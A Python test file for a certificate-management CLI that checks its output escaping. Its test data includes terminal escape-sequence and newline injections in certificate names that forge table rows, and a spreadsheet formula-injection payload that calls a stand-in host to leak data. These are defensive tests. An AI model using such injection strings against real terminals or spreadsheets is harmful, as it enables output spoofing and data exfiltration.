"""Issue #18 class 6: text from outside is data, never markup or formula. One escaping
function per output kind (pycert/common/escape.py), used by the `list` table and CSV and
by the report's CSV. Real Mono store."""

import csv
import io
from datetime import timedelta

from cryptography import x509
from cryptography.x509.oid import NameOID

from pycert.cli import run
from pycert.common import escape
from pycert.demo import samples

NOW = samples.utc_now()


def _named(mono_store, cn):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "X")])
    sample = samples.make_certificate(name, "CN=Some CA", NOW - timedelta(days=1), NOW + timedelta(days=50), key_seed=4)
    mono_store.add(sample)
    return sample


def test_the_table_shows_a_cn_newline_and_terminal_controls_escaped(mono_store, capsys):
    _named(mono_store, "evil\nok     999  2099-01-01  obn  fake-row\x1b]0;owned\x07\x00")
    assert run(["list", "--all"]) == 0
    out = capsys.readouterr().out
    rows = out.rstrip("\n").split("\n")
    assert len(rows) == 2, out  # the header and one row: no fake row
    for control in ("\x1b", "\x07", "\x00"):
        assert control not in out
    assert "evil\\nok" in rows[1] and "\\x1b]0;owned\\x07\\x00" in rows[1]


def test_list_csv_writes_formulas_as_text(mono_store, capsys):
    _named(mono_store, '=HYPERLINK("http://x.example/?leak")')
    _named(mono_store, "@SUM(1+1)")
    assert run(["list", "--all", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = sorted(r["common_name"] for r in rows)
    assert names == ["'=HYPERLINK(\"http://x.example/?leak\")", "'@SUM(1+1)"]
    assert all(not r["days_left"].startswith("'") for r in rows)  # numbers stay numbers


def test_escape_terminal_keeps_japanese_and_escapes_what_a_console_would_act_on():
    assert escape.terminal("オンライン請求 0110119153") == "オンライン請求 0110119153"
    assert escape.terminal("a\r\nb\tc") == "a\\r\\nb\\tc"
    assert escape.terminal("\u202eevil\u2028") == "\\u202eevil\\u2028"


def test_escape_csv_cell_by_the_owasp_list():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert escape.csv_cell(start + "1") == "'" + start + "1"
    assert escape.csv_cell(-52) == "-52" and escape.csv_cell(None) == "" and escape.csv_cell("CN=x") == "CN=x"


def test_doctor_masks_the_proxy_password_in_text_and_json(monkeypatch, capsys):
    """Issue #18 class 5: `doctor` printed HTTPS_PROXY=http://alice:S3cretPw@... as-is."""
    monkeypatch.setenv("HTTPS_PROXY", "http://alice:S3cretPw@127.0.0.1:9")
    monkeypatch.setenv("https_proxy", "http://alice:S3cretPw@127.0.0.1:9")
    for fmt in ("text", "json"):
        run(["doctor", "--format", fmt])
        out, err = capsys.readouterr()
        assert "S3cretPw" not in out + err
        assert "alice:***@127.0.0.1:9" in out


def test_escape_url_masks_only_the_password():
    assert escape.url("http://alice:S3cret@proxy:8080/") == "http://alice:***@proxy:8080/"
    assert escape.url("http=http://a:b@p:1;https=https://c:d@q:2") == "http=http://a:***@p:1;https=https://c:***@q:2"
    assert escape.url("http://proxy:8080") == "http://proxy:8080"
    assert escape.url("proxy.clinic.local:8080") == "proxy.clinic.local:8080"


def test_cleanup_shows_a_cn_newline_and_terminal_controls_escaped(mono_store, capsys):
    """cleanup's rows go through escape.terminal like list's table (class 6)."""
    name = x509.Name([
        x509.NameAttribute(NameOID.COMMON_NAME, "0110119153\n  REMOVE   obn  fake-row\x1b]0;owned\x07"),
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, "ReceiptOnline"),
        x509.NameAttribute(NameOID.COUNTRY_NAME, "JP"),
    ])
    mono_store.add(samples.make_certificate(name, samples.OBN_CA, NOW - timedelta(days=1), NOW + timedelta(days=50)))
    assert run(["cleanup"]) == 0
    out = capsys.readouterr().out
    rows = out.rstrip("\n").split("\n")
    assert len(rows) == 2, out  # the certificate's row and the closing line: no fake row
    assert "\x1b" not in out and "\x07" not in out
    assert "0110119153\\n  REMOVE   obn  fake-row\\x1b]0;owned\\x07" in rows[0]
